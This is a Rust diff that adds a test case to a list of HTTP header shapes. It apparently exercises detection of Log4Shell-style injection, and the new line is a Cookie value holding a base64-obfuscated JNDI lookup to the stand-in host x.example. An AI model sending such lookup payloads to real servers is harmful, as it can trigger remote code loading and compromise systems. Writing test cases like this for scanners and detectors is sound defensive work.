@@ -61,6 +61,8 @@ fn shapes(lookup: &str) -> Vec<(&'static str, String)> {
         ("Referer", format!("http://10.0.0.5/cart?x={lookup}")),
         ("Cookie", lookup.to_string()),
         ("Cookie", format!("sid=ab12; {lookup}=1")),
+        // The cookie parser splits at the base64 padding `=`: the lookup is cut in two.
+        ("Cookie", format!("${{${{base64:{}}}}}", b64("jndi:corba://x.example/350207"))),
         ("User-Agent", lookup.to_string()),
         ("X-Api-Version", lookup.to_string()),
         ("X-Forwarded-For", format!("203.0.113.9, {lookup}")),
